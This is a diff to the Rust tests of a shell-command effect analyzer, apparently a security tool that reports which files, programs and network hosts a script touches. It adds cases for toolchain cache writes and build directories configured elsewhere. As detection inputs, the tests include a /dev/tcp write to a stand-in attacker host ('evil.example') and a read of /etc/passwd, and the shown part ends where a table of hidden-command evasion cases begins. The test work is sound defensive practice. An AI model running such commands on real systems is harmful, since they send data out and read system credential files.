@@ -34,7 +34,11 @@ fn workbench() -> MemoryWorkbench {
 }
 
 async fn effects_of(script: &str) -> Vec<Effect> {
-    effects::resolve(&analysis::analyze(script), &workbench()).await
+    effects_in(script, &workbench()).await
+}
+
+async fn effects_in(script: &str, place: &MemoryWorkbench) -> Vec<Effect> {
+    effects::resolve(&analysis::analyze(script), place).await
 }
 
 fn shown(effect: &Effect) -> String {
@@ -182,7 +186,7 @@ async fn commands_that_look_are_known_and_name_what_they_read() {
 }
 
 #[tokio::test]
-async fn reading_outside_of_the_workspace_is_visible() {
+async fn x4_reading_outside_of_the_workspace_is_visible() {
     check_effects(
         &[
             "cat /etc/passwd",
@@ -419,11 +423,11 @@ async fn the_network_is_named_by_host_where_it_can_be() {
             "echo x > /dev/tcp/evil.example/80"
                 net evil.example:80, look echo
             "npm install"
-                net *:443, run npm
+                net *:443, run npm, write !/home/person/.npm/
             "cargo metadata"
-                look cargo, read ., net *:443, write Cargo.lock
+                look cargo, read ., net *:443, write !/home/person/.cargo/registry/, write !/home/person/.cargo/git/, write Cargo.lock
             "cargo build"
-                run cargo, read ., net *:443, write Cargo.lock
+                run cargo, read ., net *:443, write !/home/person/.cargo/registry/, write !/home/person/.cargo/git/, write Cargo.lock
             "curl https://{a,b}.example"
                 look curl, net a.example:443, net b.example:443
             "curl -x proxy https://example.org"
@@ -433,9 +437,147 @@ async fn the_network_is_named_by_host_where_it_can_be() {
     .await;
 }
 
+#[tokio::test]
+async fn what_a_toolchain_writes_outside_is_claimed_with_its_command() {
+    check_effects(
+        &[
+            "cargo build --offline",
+            "cargo +nightly test --offline --locked",
+            "cargo check --offline --target-dir /tmp/t",
+            "CARGO_TARGET_DIR=~/.cache/t cargo clippy --frozen",
+            "export CARGO_TARGET_DIR=\"$HOME/.cache/t\"\ncargo test --frozen",
+            "cargo fmt --check",
+            "cargo install ripgrep",
+            "npm ci && npm test",
+            "python3 -m pip install x",
+            ".venv/bin/pip install x",
+            "uv sync",
+            "go build ./...",
+            "go mod tidy",
+            "git clone https://example.org/x /srv/x",
+            "git clone --depth 1 https://example.org/x",
+        ],
+        expect![[r#"
+            "cargo build --offline"
+                run cargo, read ., write Cargo.lock
+            "cargo +nightly test --offline --locked"
+                run cargo, read .
+            "cargo check --offline --target-dir /tmp/t"
+                run cargo, read ., write Cargo.lock, write !/tmp/t/
+            "CARGO_TARGET_DIR=~/.cache/t cargo clippy --frozen"
+                run cargo, read ., write !/home/person/.cache/t/
+            "export CARGO_TARGET_DIR=\"$HOME/.cache/t\"\ncargo test --frozen"
+                run export, run cargo, read ., write !/home/person/.cache/t/
+            "cargo fmt --check"
+                run cargo, read .
+            "cargo install ripgrep"
+                run cargo, read ., net *:443, write !/home/person/.cargo/, write Cargo.lock
+            "npm ci && npm test"
+                net *:443, run npm, write !/home/person/.npm/, run npm
+            "python3 -m pip install x"
+                run python3, net *:443, write !/home/person/.cache/pip/
+            ".venv/bin/pip install x"
+                run .venv/bin/pip, net *:443, write !/home/person/.cache/pip/
+            "uv sync"
+                net *:443, run uv, write !/home/person/.cache/uv/, write !/home/person/.local/share/uv/
+            "go build ./..."
+                run go, write !/home/person/.cache/go-build/, write !/home/person/go/pkg/
+            "go mod tidy"
+                run go, net *:443, write !/home/person/.cache/go-build/, write !/home/person/go/pkg/
+            "git clone https://example.org/x /srv/x"
+                run git, read ., write !/srv/x/, net example.org:443
+            "git clone --depth 1 https://example.org/x"
+                run git, read ., net example.org:443
+        "#]],
+    )
+    .await;
+}
+
+/// Builds, commits and settings of a workspace whose own files lie elsewhere, or whose settings say so.
+#[tokio::test]
+async fn folders_for_builds_and_repositories_elsewhere_are_found() {
+    let common = "/home/person/main/.git";
+    let places = [
+        workbench().file(
+            ".cargo/config.toml",
+            "[build]\ntarget-dir = \"/big/target\"\n",
+        ),
+        workbench().file(".cargo/config.toml", "[build]\ntarget-dir = \"out\"\n"),
+        workbench().file(
+            "/home/person/.cargo/config.toml",
+            "build.target-dir = '../shared'\n",
+        ),
+        workbench().file(".git/config", "[core]\n"),
+        workbench()
+            .file(".git", format!("gitdir: {common}/worktrees/w\n"))
+            .file(&format!("{common}/worktrees/w/commondir"), "../..\n"),
+    ];
+    let scripts = [
+        "cargo test --frozen",
+        "git commit -m x",
+        "git remote add o https://example.org/x",
+        "git config --get a.b",
+    ];
+    let mut table = String::new();
+    for place in places {
+        for script in scripts {
+            let effects: Vec<String> = effects_in(script, &place).await.iter().map(shown).collect();
+            table.push_str(&format!("{script}\n    {}\n", effects.join(", ")));
+        }
+        table.push('\n');
+    }
+    expect![[r#"
+        cargo test --frozen
+            run cargo, read ., write !/big/target/
+        git commit -m x
+            run git, read .
+        git remote add o https://example.org/x
+            run git, read ., net example.org:443
+        git config --get a.b
+            run git, read .
+
+        cargo test --frozen
+            run cargo, read .
+        git commit -m x
+            run git, read .
+        git remote add o https://example.org/x
+            run git, read ., net example.org:443
+        git config --get a.b
+            run git, read .
+
+        cargo test --frozen
+            run cargo, read ., write !/home/shared/
+        git commit -m x
+            run git, read .
+        git remote add o https://example.org/x
+            run git, read ., net example.org:443
+        git config --get a.b
+            run git, read .
+
+        cargo test --frozen
+            run cargo, read .
+        git commit -m x
+            run git, read .
+        git remote add o https://example.org/x
+            run git, read ., write !/workspace/.git/config, net example.org:443
+        git config --get a.b
+            run git, read .
+
+        cargo test --frozen
+            run cargo, read .
+        git commit -m x
+            run git, read ., write !/home/person/main/.git/
+        git remote add o https://example.org/x
+            run git, read ., write !/home/person/main/.git/, write !/home/person/main/.git/config, net example.org:443
+        git config --get a.b
+            run git, read .
+
+    "#]].assert_eq(&table);
+}
+
 /// X1 to X3, X7, X8: each hides a command from those who match text. None may pass as looking.
 #[tokio::test]
-async fn no_hidden_command_passes_as_looking() {
+async fn x1_x2_x3_x4_x7_x8_no_hidden_command_passes_as_looking() {
     #[rustfmt::skip] // A table.
     let hostile = [
         // Separators and substitutions.
